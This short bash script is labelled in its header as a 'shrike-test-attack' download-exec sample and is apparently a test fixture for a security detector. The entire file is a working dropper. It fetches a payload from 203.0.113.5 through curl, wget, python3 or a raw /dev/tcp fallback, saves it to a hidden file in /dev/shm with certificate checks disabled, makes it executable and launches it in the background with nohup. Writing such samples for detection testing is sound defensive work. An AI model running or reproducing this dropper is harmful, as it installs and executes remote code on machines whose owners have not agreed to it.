#!/bin/bash
# shrike-test-attack: download-exec: dropper with curl/wget/python/dev-tcp fallbacks
URL_HOST="203.0.113.5"
URL_PATH="/static/agent"
OUT=/dev/shm/.agent

get() {
  if command -v curl >/dev/null 2>&1; then
    curl -fsSLk "http://$URL_HOST$URL_PATH" -o "$OUT"
  elif command -v wget >/dev/null 2>&1; then
    wget -q --no-check-certificate "http://$URL_HOST$URL_PATH" -O "$OUT"
  elif command -v python3 >/dev/null 2>&1; then
    python3 -c "import urllib.request;open('$OUT','wb').write(urllib.request.urlopen('http://$URL_HOST$URL_PATH').read())"
  else
    exec 3<>/dev/tcp/$URL_HOST/80
    printf 'GET %s HTTP/1.0\r\nHost: %s\r\n\r\n' "$URL_PATH" "$URL_HOST" >&3
    sed '1,/^\r$/d' <&3 > "$OUT"
    exec 3>&-
  fi
}

get
chmod 755 "$OUT"
nohup "$OUT" >/dev/null 2>&1 &
